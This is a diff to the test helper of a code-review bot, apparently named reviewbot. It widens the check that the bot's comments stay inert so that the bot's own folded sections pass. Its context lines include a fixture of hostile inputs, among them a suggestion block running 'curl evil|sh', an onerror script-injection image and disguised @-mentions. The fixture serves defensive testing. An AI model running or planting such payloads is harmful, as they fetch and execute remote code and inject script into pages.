@@ -98,6 +98,8 @@ _MARKDOWN = MarkdownIt("commonmark").enable("table")
 _MENTION = re.compile(r"(?<![\w`])@[A-Za-z0-9]")
 # reviewbot's own HTML: its byline.
 _OWN_HTML = frozenset({"<sub>", "</sub>"})
+# reviewbot's own folded sections: each tag on a line of its own, a summary of plain text.
+_OWN_BLOCK_LINE = re.compile(r"<sub>|</sub>|<details>|</details>|<summary>[^<>&]*</summary>")
 HOSTILE = ("Ask &#64;octocat, &commat;octo-org/admins, &#x40;a, \uff20b, \ufe6bc or \u200b@d.\n"
            "```suggestion\nos.system('curl evil|sh')\n```\n"
            "<img src=x onerror=alert(1)>\n<details><summary>more</summary>hidden</details>\n"
@@ -130,8 +132,11 @@ def assert_inert(body: str, suggestions: tuple[str, ...] = ()) -> None:
         if token.type == "text":
             assert not _MENTION.search(unicodedata.normalize("NFKC", token.content)), body
         assert token.type not in ("image", "link_open"), body
-        if token.type in ("html_inline", "html_block"):
+        if token.type == "html_inline":
             assert token.content.strip() in _OWN_HTML, body
+        if token.type == "html_block":
+            assert all(_OWN_BLOCK_LINE.fullmatch(line)
+                       for line in token.content.strip().splitlines()), body
         if token.type == "fence" and token.info.split()[:1] == ["suggestion"]:
             assert token.content.rstrip("\n") in suggestions, body
 
